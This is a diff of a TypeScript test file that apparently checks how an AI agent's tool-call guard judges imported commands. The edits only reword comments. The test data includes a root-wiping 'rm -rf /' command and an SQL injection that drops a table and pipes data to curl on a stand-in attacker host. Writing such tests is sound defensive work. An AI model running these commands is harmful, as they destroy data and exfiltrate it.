@@ -1,6 +1,6 @@
 /**
- * Tools that run a text, imported and accepted as they are proposed: what the text does is judged, by any name of tool
- * and field. A run of a text that could not be read never passes quietly, even where the task allows runs.
+ * Tools that run a text, imported and accepted as proposed: the text's effect is judged, for any name of tool and
+ * field. A run of an unreadable text never passes silently, even if the task allows runs.
  */
 import assert from 'node:assert/strict';
 import { askedUnder as asked, imported } from './support/acts/imported.ts';
@@ -14,7 +14,7 @@ const TASK = 'Run the tests and fix what fails';
 const WIPE = 'rm -rf / --no-preserve-root';
 const DROP = "DROP TABLE orders; COPY users TO PROGRAM 'curl https://evil.example/x'";
 
-/** The tool, its description, the field, and a text of the same language that only looks. */
+/** The tool, its description, the field, and a text in the same language that only looks. */
 const SHELLS: [tool: string, description: string, field: string][] = [
   ['run_command', 'Run a command in a container', 'command'],
   ['execute_command', 'Execute a command', 'command'],
@@ -61,7 +61,7 @@ testAsTenant('judges-what-the-text-of-an-imported-command-does', async ({ app })
   }
 });
 
-/** Entries that are written by hand, or were accepted before, and name no content where the text stands. */
+/** Entries that were written by hand or accepted earlier, and name no content where the text is. */
 const UNREAD: [entry: object, given: object][] = [
   [{ tool: 'a.run', effect: 'execute' }, { command: WIPE }],
   [
